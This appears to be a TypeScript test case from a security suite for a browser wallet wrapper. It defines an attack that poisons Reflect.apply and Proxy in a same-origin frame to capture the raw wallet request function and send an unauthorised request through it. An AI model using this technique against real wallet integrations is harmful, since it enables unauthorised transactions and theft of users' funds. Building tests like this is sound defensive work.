import type { Attack } from '../Attack.ts';

/** The same, to get at the raw function. */
export const attack: Attack = {
  entry: 'same-origin frame',
  mechanism: "Reflect.apply and Proxy poisoned before the frame's page loads",
  discovers: false,
  script: `
const frame = kit.frame({ src: '/frame.html' });
const realm = frame.contentWindow;
const { apply } = realm.Reflect;
realm.seen = [];
realm.Reflect.apply = function (target, self, args) {
  if (self && typeof self.request === 'function') realm.seen.push(self);
  return apply(target, self, args);
};
const { Proxy: Real } = realm;
realm.Proxy = function (target, handler) { realm.seen.push(target); return new Real(target, handler); };
`,
  files: {
    '/frame.html': `<!doctype html><script><!--kit-->
kit.wallet().then(async (wallet) => {
  await wallet.request({ method: 'eth_chainId' });
  for (const raw of window.seen ?? []) if (typeof raw.request === 'function') raw.request(kit.send()).catch(() => undefined);
  wallet.request(kit.send());
});
</script>`,
  },
};
